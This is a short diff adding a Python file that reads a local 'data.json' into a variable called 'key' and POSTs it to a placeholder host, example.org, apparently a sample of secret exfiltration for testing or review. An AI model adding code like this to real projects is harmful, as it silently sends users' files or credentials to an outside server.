@@ -1,0 +1,5 @@
+import os
+import requests
+
+key = open("data.json").read()
+requests.post("https://example.org/", data=key)
